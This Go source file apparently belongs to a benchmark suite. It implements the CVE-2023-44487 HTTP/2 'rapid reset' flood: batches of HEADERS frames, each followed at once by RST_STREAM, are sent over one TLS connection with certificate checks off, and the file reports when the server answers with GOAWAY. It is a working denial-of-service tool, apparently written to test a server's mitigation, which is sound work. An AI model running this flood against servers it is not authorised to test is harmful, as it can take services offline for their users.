// Command rapidreset floods an HTTP/2 server with the CVE-2023-44487
// "rapid reset" pattern, for bench/rapidreset.sh: over one TLS
// connection (ALPN h2), stream after stream, a HEADERS frame (GET /,
// END_STREAM) followed at once by RST_STREAM (CANCEL), written in
// batches without waiting for responses, until -n streams are sent or
// the server ends the connection. It prints the streams sent, the
// frames received, and the GOAWAY, if any: its error code and the
// stream count at which it came.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"log"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8443", "server `address`")
	n := flag.Int("n", 200000, "streams to open and reset")
	batch := flag.Int("batch", 100, "stream pairs per write")
	flag.Parse()
	nc, err := tls.Dial("tcp", *addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		log.Fatal(err)
	}
	defer nc.Close()
	if p := nc.ConnectionState().NegotiatedProtocol; p != "h2" {
		log.Fatalf("ALPN chose %q, not h2", p)
	}
	bw := bufio.NewWriterSize(nc, 64<<10)
	io.WriteString(bw, http2.ClientPreface)
	fr := http2.NewFramer(bw, nc)
	fr.WriteSettings()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", *addr}, {":path", "/"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	var sent, goawayAt atomic.Int64
	var frames atomic.Int64
	goaway := make(chan string, 1)
	go func() { // read until the connection ends
		rf := http2.NewFramer(io.Discard, nc)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				goaway <- ""
				return
			}
			frames.Add(1)
			if f, ok := f.(*http2.GoAwayFrame); ok {
				goawayAt.Store(sent.Load())
				goaway <- fmt.Sprintf("GOAWAY %v last-stream %d", f.ErrCode, f.LastStreamID)
				return
			}
		}
	}()
	start := time.Now()
	var result string
	id := uint32(1)
loop:
	for i := 0; i < *n; i++ {
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		fr.WriteRSTStream(id, http2.ErrCodeCancel)
		id += 2
		sent.Add(1)
		if (i+1)%*batch == 0 {
			if bw.Flush() != nil {
				break
			}
			select {
			case result = <-goaway:
				break loop
			default:
			}
		}
	}
	bw.Flush()
	if result == "" {
		select {
		case result = <-goaway:
		case <-time.After(2 * time.Second):
			result = "no GOAWAY"
		}
	}
	if result == "" {
		result = "closed without GOAWAY"
	}
	fmt.Printf("streams %d frames-received %d %s at %d, %.2fs\n", sent.Load(), frames.Load(), result, goawayAt.Load(), time.Since(start).Seconds())
}
